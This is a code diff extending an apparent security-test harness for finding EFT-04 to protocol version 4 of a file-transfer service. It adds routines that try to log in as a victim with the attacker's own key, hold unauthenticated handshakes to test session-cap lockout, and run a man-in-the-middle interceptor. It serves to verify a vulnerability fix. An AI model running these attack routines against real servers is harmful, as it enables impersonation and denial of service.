@@ -13,6 +13,14 @@ read it), and that is all it checks. Two denial-of-service attacks follow:
   caps connections per client id (ours: 4) then refuses the victim itself for as
   long as we hold them. Success if our own extra reconnect is refused, since the
   victim's is the same request. Keepalives beat the idle timeout.
+
+``--protocol 4``: logging in (827) needs the victim's static key, proven in message 3.
+``--during-session`` tries to log in as the victim's name (``--name``; encrypted on
+the wire) with our own key as soon as the victim has its welcome: 1606. The default
+mode tries the same ``--sessions`` times and also holds ``--sessions`` handshakes open
+without ever authenticating (message 2 received, message 3 never sent): only
+authenticated connections count against a client's session cap, so the victim, run
+during the hold, must get through.
 """
 
 from __future__ import annotations
@@ -34,6 +42,7 @@ from .common import (
 )
 from .framing import Frame, name_request
 from .proxy import Interceptor, MitmConnection, MitmProxy
+from .v4 import V4Client, add_protocol_argument, login
 
 FINDING = "EFT-04"
 SUMMARY = "unauthenticated reconnect as the victim: key rotation and session-cap lockout"
@@ -47,6 +56,7 @@ def add_arguments(parser: argparse.ArgumentParser) -> None:
     parser.add_argument("--sessions", type=int, default=8, help="reconnects to hold (8)")
     parser.add_argument("--hold", type=float, default=10.0, help="seconds to hold them (10)")
     parser.add_argument("--keepalive", type=float, default=20.0, help="seconds between pings")
+    add_protocol_argument(parser)
 
 
 async def reconnect(target: str, victim: Victim) -> tuple[ServerLink | None, int]:
@@ -136,7 +146,87 @@ class Rotate(Interceptor):
         self.proxy.finish(True)
 
 
+async def hold_v4(args: argparse.Namespace, out: Out) -> bool:
+    victim = victim_from_args(args)
+    answers = []
+    for _ in range(args.sessions):
+        client, code = await login(args.target, victim.name)
+        await client.close()
+        answers.append(code)
+    out.step(
+        f"logged in as {victim.name!r} with our own key {args.sessions} times", answers=answers
+    )
+    half_open: list[V4Client] = []
+    for _ in range(args.sessions):
+        client = await V4Client.open(args.target)
+        await client.hello()  # message 2 received; message 3 never comes
+        half_open.append(client)
+    out.event(
+        "holding",
+        f"holding {len(half_open)} unauthenticated handshakes for {args.hold:g} s",
+        sessions=len(half_open),
+    )
+    await asyncio.sleep(args.hold)
+    still_open = 0
+    for client in half_open:
+        still_open += not client.link.reader.at_eof()
+        await client.close()
+    granted = [code for code in answers if code == ResponseCode.RECONNECTED]
+    fields = {"answers": answers, "held": 0, "half_open": len(half_open), "still_open": still_open}
+    if granted:
+        return out.result(True, "the server let us log in as the victim", **fields)
+    return out.result(
+        False,
+        f"every log-in as {victim.name!r} with our key got 1606; the {len(half_open)} "
+        "handshakes we held never authenticated, so none counts against the victim's cap",
+        **fields,
+    )
+
+
+class RotateV4(Interceptor):
+    def __init__(self, out: Out, target: str, name: str | None) -> None:
+        self.out, self.target, self.name = out, target, name
+        self.answers: list[int] = []
+        self.outcome: list[int] = []
+
+    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
+        if frame.code in (RequestCode.CRC_OK, RequestCode.CRC_RETRY, RequestCode.CRC_GIVE_UP):
+            self.outcome.append(frame.code)
+        await conn.to_server(frame.raw)
+
+    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
+        count = conn.scratch["responses"] = conn.scratch.get("responses", 0) + 1
+        welcome = frame.code in (ResponseCode.REGISTERED, ResponseCode.RECONNECTED)
+        if count == 2 and welcome and not self.answers:
+            if not self.name:
+                raise AttackError("version 4 encrypts the name: give the victim's --name")
+            client, code = await login(self.target, self.name)
+            await client.close()
+            self.answers.append(code)
+            self.out.step(f"logged in as {self.name!r} with our key after its welcome: {code}")
+        await conn.to_client(frame.raw)
+
+    async def client_closed(self, conn: MitmConnection) -> None:
+        conn.close_server()
+        self.proxy.finish(True)
+
+
+async def during_v4(args: argparse.Namespace, out: Out) -> bool:
+    rotate = RotateV4(out, args.target, args.name)
+    await MitmProxy(args.target, rotate, out).run(args.listen, args.timeout)
+    if ResponseCode.RECONNECTED in rotate.answers:
+        return out.result(True, "the server let us log in as the victim", answers=rotate.answers)
+    return out.result(
+        False,
+        f"could not log in as the victim ({rotate.answers}); its upload went on: {rotate.outcome}",
+        answers=rotate.answers,
+        outcome=rotate.outcome,
+    )
+
+
 async def run(args: argparse.Namespace, out: Out) -> bool:
+    if args.protocol == 4:
+        return await (during_v4(args, out) if args.during_session else hold_v4(args, out))
     if not args.during_session:
         return await hold(args, out)
     rotate = Rotate(out, args.target)
